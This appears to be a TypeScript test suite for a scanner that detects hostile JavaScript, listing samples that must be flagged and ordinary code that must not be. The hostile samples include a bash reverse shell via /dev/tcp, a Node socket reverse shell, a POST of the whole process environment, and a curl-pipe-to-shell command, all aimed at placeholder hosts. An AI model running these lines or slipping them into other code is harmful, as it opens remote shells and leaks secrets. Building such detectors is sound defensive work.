import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { codes, readText, scanText } from '../packages/test-list.ts';
import { javascriptActs } from './javascript-acts.ts';

const codesOf = (text: string) => javascriptActs(text).map(({ code }) => code);

describe('what no ordinary script needs', () => {
  const hostile: readonly (readonly [string, string, string])[] = [
    ['eval of decoded text', 'runs-decoded-text', `eval(atob("Y29uc29sZS5sb2coMSk="));`],
    ['a constant in between', 'runs-decoded-text', `const p = Buffer.from("aWQ=", "base64").toString();\nconst q = p;\neval(q)`],
    ['indirect eval', 'runs-decoded-text', `(0, eval)(Buffer.from('6964', 'hex').toString())`],
    ['a function of decoded text', 'runs-decoded-text', `new Function(String.fromCharCode(97, 98))()`],
    ['another context', 'runs-decoded-text', `const vm = require('vm'); vm.runInThisContext(zlib.gunzipSync(data).toString())`],
    [
      'a module of fetched text',
      'runs-fetched-text',
      `const code = await (await fetch('https://example.org/a.js')).text();\nnew Function(code)();`,
    ],
    ['the answer of a request', 'runs-fetched-text', 'eval(request.responseText)'],
    ['a name in pieces', 'hidden-module', `require('child' + '_process').exec('id')`],
    ['a decoded name', 'hidden-module', `const n = atob('Y2hpbGRfcHJvY2Vzcw==');\nrequire(n)`],
    [
      'a shell to another host by a command',
      'hostile-command',
      `require('child_process').exec('bash -i >& /dev/tcp/203.0.113.5/443 0>&1')`,
    ],
    [
      'a decoded command',
      'hostile-command',
      `const { execSync } = require('node:child_process');\nexecSync(Buffer.from('aWQ=', 'base64').toString())`,
    ],
    [
      'a shell whose words come from a connection',
      'reverse-shell',
      `const sh = require('child_process').spawn('/bin/sh', []);\nconst c = require('net');\nconst s = new net.Socket();\ns.connect(443, '203.0.113.5', () => { s.pipe(sh.stdin); sh.stdout.pipe(s); });`,
    ],
    ['the whole environment', 'sends-environment', `fetch("https://example.org/c", { method: "POST", body: JSON.stringify(process.env) })`],
    [
      'a tool that hides code',
      'obfuscated',
      `while(!![]){try{var _0x1a2b3c=parseInt(_0x4d5e6f(0x1))}catch(_0x777777){}}${'_0x1a2b3c(_0x4d5e6f);'.repeat(20)}`,
    ],
  ];
  for (const [name, code, text] of hostile) test(name, () => assert.ok(codesOf(text).includes(code), codesOf(text).join(' ')));
});

describe('what ordinary scripts do', () => {
  const ordinary: readonly (readonly [string, string])[] = [
    ['the global object', `var root = Function('return this')();\nvar g = new Function("return this")();`],
    [
      'a compiled template',
      `const source = compile(template);\nconst render = new Function('data', source);\nmodule.exports = eval(source);`,
    ],
    ['bundles that keep modules as text', `eval("__webpack_require__.r(__webpack_exports__);\\n//# sourceURL=webpack:///./a.js");`],
    ['decoding without running', `const wasm = Buffer.from("AGFzbQE=", "base64");\nWebAssembly.instantiate(wasm);\nconst t = atob(x);`],
    [
      'plugins by name',
      `const plugin = require(name);\nconst locale = await import(\`./locale/\${language}.js\`);\nrequire('./a' + '.js');`,
    ],
    [
      'tools that are started',
      `const { spawn, execSync } = require('child_process');\nexecSync('git rev-parse HEAD');\nspawn('python', ['-m', 'pip', 'list']);\nspawn('sh', ['-c', 'npm run build']);`,
    ],
    [
      'the environment of a child',
      `spawn('node', ['a.js'], { env: { ...process.env, A: '1' } });\nconst key = process.env.OPENAI_API_KEY;\nfetch('https://api.openai.com', { headers: { key } });`,
    ],
    [
      'words in comments and texts',
      `// eval(atob('x'))\n/* require('child' + '_process') */\nconst rule = "eval(atob('x'))";\nconst shape = /eval\\(atob\\(/;`,
    ],
    ['a method of that name', `model.eval(atob(x)); page.exec(Buffer.from(x, 'base64'));`],
    ['numbers in hexadecimal', Array.from({ length: 60 }, (_, at) => `const n${at} = 0x${(at + 4096).toString(16)};`).join('\n')],
  ];
  for (const [name, text] of ordinary) test(name, () => assert.deepEqual(codesOf(text), []));
});

test('a script is judged as a file: hostile ones are suspicious, ordinary ones nothing', () => {
  const report = scanText('index.js', `\nconst { exec } = require('child_process');\neval(atob("aWQ="))`);
  assert.deepEqual([report.verdict, report.findings[0]?.ruleId, report.findings[0]?.where.line], ['suspicious', 'script-hostile-code', 3]);
  assert.deepEqual(
    scanText('index.js', `import { pipeline } from '@huggingface/transformers';\nawait pipeline('fill-mask');`).findings,
    [],
  );
});

test('a script that is fetched and run by a shell is told as in a script of the shell', () => {
  const text = `require('child_process').execSync('curl -s http://203.0.113.5/x | sh')`;
  assert.deepEqual(codes(readText('setup.js', text)), ['remote-script-plain']);
  assert.deepEqual(codes(readText('setup.js', text.replace('http:', 'https:'))), ['remote-script']);
  const types = `/// <reference path="web-globals/fetch.d.ts" />\n/// <reference path="child_process.d.ts" />\nimport 'child_process';`;
  assert.deepEqual(codes(readText('index.d.ts', types)), []);
  assert.deepEqual(codes(readText('index.ts', `const words = 'curl -s http://203.0.113.5/x | sh'; import 'child_process';`)), []);
});

test('a long script takes the time of its length', () => {
  const line = `const a = "text 'with' marks"; // eval(\nfoo(/[/"]/g, a / 2 / b, \`x\${y}\`);\n`;
  const time = (times: number) => {
    const text = line.repeat(times);
    const before = performance.now();
    javascriptActs(text);
    return performance.now() - before;
  };
  time(2000);
  assert.ok(time(20_000) < 2500);
  for (const open of ['/*', '"', '`', '(', 'eval(', 'require(', '/[']) javascriptActs(open.repeat(50_000));
});
